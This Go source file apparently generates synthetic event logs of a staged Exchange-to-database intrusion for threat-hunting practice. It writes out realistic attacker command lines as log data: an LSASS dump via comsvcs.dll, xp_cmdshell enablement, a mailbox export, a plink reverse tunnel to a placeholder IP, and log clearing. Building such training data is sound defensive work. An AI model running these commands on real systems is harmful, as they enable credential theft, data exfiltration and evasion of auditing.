package demo

import (
	"fmt"
	"strings"
	"time"

	"aldebaran/evidence/evtx"
)

const (
	intruder = "203.0.113.77" // RFC 5737: nobody's address
	ownAuth  = `C:\Program Files\Microsoft\Exchange Server\V15\FrontEnd\HttpProxy\owa\auth\`
	// The page that the story turns on, by the name that was published of NET-STAR's. It is a name in the
	// logs; there is no such page.
	page = "OutlookEN.aspx"
	// batch is the name that was published of the collector in databases; there is no such file.
	batch = `C:\Windows\Temp\mssq.bat`
	// tunnel is the domain below which data leaves in names that are asked for. RFC 2606: nobody's.
	tunnel = "cdn-lakes.example"
)

// intrusion is the story that a hunt should bring out, in its stages.
func (s *scene) intrusion() {
	s.wayIn()
	s.lookAround()
	s.credentials()
	s.mailTheft()
	s.overToTheDatabase()
	s.collection()
	s.staying()
	s.coveringUp()
}

// wayIn: requests that confuse the front end, forged view states that fail, then a page that arrives
// over a share, made to look old, and compiled at its first request.
func (s *scene) wayIn() {
	for i, query := range []string{"@lakes.example/mapi/nspi/?synthetic", "@lakes.example/powershell/?X-Rps-CAT=synthetic", "@lakes.example/powershell/?X-Rps-CAT=synthetic"} {
		s.request(at(0, "02:12:20").Add(time.Duration(i*31)*time.Second), request{
			client: intruder, method: "POST", stem: "/autodiscover/autodiscover.json", query: query, agent: "Mozilla/5.0", status: 200, sent: 2011, received: 1780})
	}
	for i := range 4 {
		s.add(mail, at(0, "02:14:08").Add(time.Duration(i*97)*time.Second), aspnet, 1316, unnamed("4009",
			"Viewstate verification failed. Reason: The viewstate supplied failed integrity check.", "3/9/2026 2:14:08 AM", "/owa/auth/logon.aspx", intruder, "synthetic"))
	}
	s.add(mail, at(0, "02:31:05"), security, 5145, fields("SubjectUserSid", "S-1-5-18", "SubjectUserName", mail.account(), "SubjectDomainName", domain, "SubjectLogonId", hex64(0x3e7),
		"ObjectType", "File", "IpAddress", "127.0.0.1", "IpPort", "49812", "ShareName", `\\*\C$`, "ShareLocalPath", `\??\C:\`,
		"RelativeTargetName", strings.TrimPrefix(ownAuth, `C:\`)+page, "AccessMask", "0x2", "AccessList", "%%4417", "AccessReason", "-"))
	s.create(mail, at(0, "02:31:05"), "System", ownAuth+page, system)
	s.add(mail, at(0, "02:31:41"), sysmon, 2, fields("RuleName", marker, "UtcTime", utc(at(0, "02:31:41")), "ProcessGuid", s.guid(), "ProcessId", 7312,
		"Image", w3wp, "TargetFilename", ownAuth+page, "CreationUtcTime", "2021-09-21 08:14:02.000", "PreviousCreationUtcTime", utc(at(0, "02:31:05")), "User", system))
	const cache = `C:\Windows\Microsoft.NET\Framework64\v4.0.30319\Temporary ASP.NET Files\owa\8e05b027\e164d61b\`
	s.start(mail, at(0, "02:32:10"), process{`C:\Windows\Microsoft.NET\Framework64\v4.0.30319\csc.exe`,
		`"C:\Windows\Microsoft.NET\Framework64\v4.0.30319\csc.exe" /t:library /utf8output /noconfig /fullpaths @"` + cache + `synthetic.cmdline"`, w3wp, owaPool, system})
	s.create(mail, at(0, "02:32:12"), w3wp, cache+"outlooken.aspx.cdcab7d2.compiled", system)
	s.create(mail, at(0, "02:32:12"), `C:\Windows\Microsoft.NET\Framework64\v4.0.30319\csc.exe`, cache+"App_Web_synthetic.dll", system)
	// What is loaded from bytes leaves no file. This is the one library that was given a name.
	s.load(mail, at(0, "02:41:30"), w3wp, cache+`assembly\IIServerCore.dll`)
	s.load(mail, at(0, "02:52:07"), w3wp, `C:\Windows\System32\vbscript.dll`)
	for night := range days {
		s.sessions(night)
	}
}

// sessions: in each night one client talks to the page, in cookies that are encrypted blocks.
func (s *scene) sessions(night int) {
	t := at(night, "02:33:02")
	for range 46 {
		t = t.Add(time.Duration(22+s.random.IntN(50)) * time.Second)
		s.request(t, request{
			client: intruder, method: []string{"GET", "POST"}[s.random.IntN(2)], stem: "/owa/auth/" + page, agent: "Mozilla/5.0 (Windows NT 10.0; Win64; x64)",
			cookie: "SESSIONID=" + s.blocks(12+s.random.IntN(24)), status: 200, sent: 900 + s.random.IntN(48_000), received: 1100 + s.random.IntN(900)})
	}
}

// lookAround: the worker process starts shells that ask where they are.
func (s *scene) lookAround() {
	for i, question := range []string{"whoami", "ipconfig /all", `net group "Domain Admins" /domain`, "nltest /dclist:lakes.example", "tasklist /svc", "netstat -ano"} {
		t := at(0, "02:33:20").Add(time.Duration(i*71) * time.Second)
		s.start(mail, t, process{cmdExe, `"cmd.exe" /c ` + question, w3wp, owaPool, system})
	}
	s.start(mail, at(0, "02:33:21"), process{`C:\Windows\System32\whoami.exe`, "whoami", cmdExe, `"cmd.exe" /c whoami`, system})
}

// credentials: in the next night the passwords of application pools are read, and the memory of
// LSASS is written to a file.
func (s *scene) credentials() {
	s.start(mail, at(0, "23:05:12"), process{cmdExe, `"cmd.exe" /c appcmd list apppool /text:*`, w3wp, owaPool, system})
	s.start(mail, at(0, "23:05:13"), process{`C:\Windows\System32\inetsrv\appcmd.exe`, `appcmd list apppool /text:*`, cmdExe, `"cmd.exe" /c appcmd list apppool /text:*`, system})
	const dump = `rundll32.exe C:\Windows\System32\comsvcs.dll, MiniDump 688 C:\ProgramData\synthetic.dmp full`
	s.start(mail, at(0, "23:12:40"), process{`C:\Windows\System32\rundll32.exe`, dump, cmdExe, `"cmd.exe" /c synthetic`, system})
	s.add(mail, at(0, "23:12:41"), sysmon, 10, fields("RuleName", marker, "UtcTime", utc(at(0, "23:12:41")), "SourceProcessGUID", s.guid(), "SourceProcessId", 6120, "SourceThreadId", 1204,
		"SourceImage", `C:\Windows\System32\rundll32.exe`, "TargetProcessGUID", s.guid(), "TargetProcessId", 688, "TargetImage", `C:\Windows\System32\lsass.exe`, "GrantedAccess", "0x1fffff",
		"CallTrace", `C:\Windows\SYSTEM32\ntdll.dll+9f8e4|C:\Windows\System32\comsvcs.dll+6ce1|C:\Windows\SYSTEM32\dbgcore.dll+11a0`, "SourceUser", system, "TargetUser", system))
}

// mailTheft: a role, an export into a served folder, a pick-up, and the request removed.
func (s *scene) mailTheft() {
	s.cmdlet(at(1, "01:20:15"), "svc-archive", "New-ManagementRoleAssignment", `-Role "Mailbox Import Export" -User "lakes.example/Staff/svc-archive"`)
	s.cmdlet(at(1, "01:26:48"), "svc-archive", "New-MailboxExportRequest", `-Mailbox "minister" -ContentFilter "(body -like '*summit*')" -FilePath "\\127.0.0.1\c$\inetpub\wwwroot\aspnet_client\lakeview.pst"`)
	s.create(mail, at(1, "01:31:02"), `C:\Program Files\Microsoft\Exchange Server\V15\Bin\MSExchangeMailboxReplication.exe`, `C:\inetpub\wwwroot\aspnet_client\lakeview.pst`, system)
	s.start(mail, at(1, "01:52:30"), process{`C:\ProgramData\7z.exe`, `7z.exe a -v50m C:\inetpub\wwwroot\aspnet_client\lakeview.png C:\inetpub\wwwroot\aspnet_client\lakeview.pst`, cmdExe, `"cmd.exe" /c synthetic`, system})
	s.request(at(1, "02:20:44"), request{client: intruder, method: "GET", stem: "/aspnet_client/lakeview.png", agent: "Mozilla/5.0 (Windows NT 10.0; Win64; x64)", status: 200, sent: 52_428_911, received: 402})
	s.cmdlet(at(1, "02:44:09"), "svc-archive", "Remove-MailboxExportRequest", `-Identity "minister\MailboxExport" -Confirm "False"`)
}

// overToTheDatabase: sa is guessed from the mail server, and commands are switched on.
func (s *scene) overToTheDatabase() {
	for i := range 14 {
		t := at(1, "22:05:00").Add(time.Duration(i*8) * time.Second)
		s.add(db, t, mssql, 18456, unnamed("sa", " Reason: Password did not match that for the login provided.", " [CLIENT: "+mail.ip+"]"))
	}
	s.connect(mail, at(1, "22:04:59"), w3wp, system, db.ip, 1433)
	s.add(db, at(1, "22:07:10"), mssql, 18454, unnamed("sa", " [CLIENT: "+mail.ip+"]"))
	s.add(db, at(1, "22:09:02"), mssql, 15457, unnamed("show advanced options", "0", "1"))
	s.add(db, at(1, "22:09:03"), mssql, 15457, unnamed("xp_cmdshell", "0", "1"))
	s.audit(at(1, "22:09:30"), "EX  ", "sa", "xp_cmdshell", "EXEC master..xp_cmdshell 'whoami'", ".Net SqlClient Data Provider")
	s.start(db, at(1, "22:09:31"), process{cmdExe, `"C:\Windows\system32\cmd.exe" /c whoami`, sqlservr, `"sqlservr.exe" -sMSSQLSERVER`, `NT SERVICE\MSSQLSERVER`})
	s.start(db, at(1, "22:09:31"), process{`C:\Windows\System32\whoami.exe`, `whoami`, cmdExe, `"C:\Windows\system32\cmd.exe" /c whoami`, `NT SERVICE\MSSQLSERVER`})
}

// collection: a batch file over WMI searches the schema and writes tables into text files.
func (s *scene) collection() {
	s.connect(mail, at(2, "00:10:01"), w3wp, system, db.ip, 135)
	s.connect(mail, at(2, "00:10:02"), w3wp, system, db.ip, 49667)
	s.logon(db, at(2, "00:10:03"), "svc-archive", mail.ip)
	s.start(db, at(2, "00:10:05"), process{cmdExe, "cmd.exe /c " + batch, wmiprvse, `C:\Windows\system32\wbem\wmiprvse.exe -secured -Embedding`, domain + `\svc-archive`})
	for i, word := range []string{"%passport%", "%phone%", "%envoy%", "%treaty%"} {
		for j := range 6 {
			t := at(2, "00:10:20").Add(time.Duration(i*60+j*9) * time.Second)
			s.audit(t, "SL  ", "sa", "columns", fmt.Sprintf("SELECT table_name, column_name FROM db%d.information_schema.columns WHERE column_name LIKE '%s'", j, word), "SQLCMD")
		}
	}
	for i, table := range []string{"envoys", "permits", "travel"} {
		t := at(2, "00:16:40").Add(time.Duration(i*80) * time.Second)
		file := fmt.Sprintf(`C:\Windows\Temp\%s.csv`, table)
		s.start(db, t, process{`C:\Program Files\Microsoft SQL Server\Client SDK\ODBC\170\Tools\Binn\SQLCMD.EXE`,
			fmt.Sprintf(`sqlcmd -S . -U sa -P (removed) -d registry -Q "SELECT * FROM dbo.%s" -s, -W -o %s`, table, file), cmdExe, "cmd.exe /c " + batch, domain + `\svc-archive`})
		s.create(db, t.Add(4*time.Second), `C:\Program Files\Microsoft SQL Server\Client SDK\ODBC\170\Tools\Binn\SQLCMD.EXE`, file, domain+`\svc-archive`)
	}
	for i, table := range []string{"envoys", "permits", "travel"} {
		s.remove(db, at(2, "00:24:10").Add(time.Duration(i)*time.Second), `C:\Windows\System32\cmd.exe`, fmt.Sprintf(`C:\Windows\Temp\%s.csv`, table), domain+`\svc-archive`)
	}
	s.create(mail, at(2, "00:23:58"), "System", `C:\inetpub\wwwroot\aspnet_client\lakes.png`, system)
	s.request(at(2, "00:27:19"), request{client: intruder, method: "GET", stem: "/aspnet_client/lakes.png", agent: "Mozilla/5.0 (Windows NT 10.0; Win64; x64)", status: 200, sent: 7_340_112, received: 398})
	s.start(db, at(2, "00:31:15"), process{cmdExe, `cmd.exe /Q /c dir C:\Windows\Temp\*.csv 1> \\127.0.0.1\ADMIN$\__synthetic 2>&1`, wmiprvse, `C:\Windows\system32\wbem\wmiprvse.exe -secured -Embedding`, domain + `\svc-archive`})
}

// tunnel: data in the names that the mail server asks for, hundreds in two hours, below one domain.
func (s *scene) tunnel() {
	t := at(2, "03:05:00")
	for range 320 {
		t = t.Add(time.Duration(6+s.random.IntN(30)) * time.Second)
		s.query(t, mail.ip, s.label(44+s.random.IntN(18))+"."+tunnel, []string{"TXT", "A"}[s.random.IntN(2)], "NOERROR")
	}
}

// staying: a service, an administrator, tunnels and a collector of passwords.
func (s *scene) staying() {
	s.add(db, at(2, "00:40:22"), services, 7045, fields("ServiceName", "LakeSync", "ImagePath", `C:\Users\Public\lakesync.exe`,
		"ServiceType", "user mode service", "StartType", "auto start", "AccountName", "LocalSystem"))
	account := "S-1-5-21-2000000001-2000000002-2000000003-1009"
	s.add(mail, at(2, "00:44:01"), security, 4720, fields("TargetUserName", "SUPPORT_388945c0", "TargetDomainName", mail.name, "TargetSid", account,
		"SubjectUserSid", "S-1-5-18", "SubjectUserName", mail.account(), "SubjectDomainName", domain, "SubjectLogonId", hex64(0x3e7), "PrivilegeList", "-", "SamAccountName", "SUPPORT_388945c0"))
	s.add(mail, at(2, "00:44:03"), security, 4732, fields("MemberName", "-", "MemberSid", account, "TargetUserName", "Administrators", "TargetDomainName", "Builtin",
		"TargetSid", "S-1-5-32-544", "SubjectUserSid", "S-1-5-18", "SubjectUserName", mail.account(), "SubjectDomainName", domain, "SubjectLogonId", hex64(0x3e7), "PrivilegeList", "-"))
	const reg = `C:\Windows\System32\reg.exe`
	s.setValue(mail, at(2, "00:47:10"), reg, `HKLM\System\CurrentControlSet\Services\lakeprov\NetworkProvider\ProviderPath`, `C:\ProgramData\lakeprov.dll`, system)
	s.setValue(mail, at(2, "00:47:12"), reg, `HKLM\System\CurrentControlSet\Control\NetworkProvider\Order\ProviderOrder`, `RDPNP,LanmanWorkstation,webclient,lakeprov`, system)
	s.start(mail, at(2, "00:55:30"), process{`C:\Users\Public\plink.exe`, `plink.exe -N -R 8443:10.20.0.21:3389 synthetic@` + intruder, cmdExe, `"cmd.exe" /c synthetic`, system})
	s.connect(mail, at(2, "00:55:31"), `C:\Users\Public\plink.exe`, system, intruder, 22)
	s.tunnel()
}

// coveringUp: the audit of the database is switched off, and the Security log of its server
// cleared, with all that was in it.
func (s *scene) coveringUp() {
	s.audit(at(2, "01:02:18"), "AL  ", "sa", "registry-audit", "ALTER SERVER AUDIT [registry-audit]\r\nWITH (STATE = OFF)", "SQLCMD")
	cleared := at(2, "01:05:00")
	s.put(db, eventlog, evtx.Record{Time: cleared, EventID: 1102, UserData: &evtx.UserData{
		Name: "LogFileCleared", Namespace: "http://manifests.microsoft.com/win/2004/08/windows/eventlog",
		Data: []evtx.Data{
			{Name: "SubjectUserSid", Value: evtx.Text(domainSID + "-1111")},
			{Name: "SubjectUserName", Value: evtx.Text("svc-archive")},
			{Name: "SubjectDomainName", Value: evtx.Text(domain)},
			{Name: "SubjectLogonId", Value: value(hex64(0x7c1f02))},
		}}})
	s.cleared[logName{db.name, security.channel}] = cleared
}
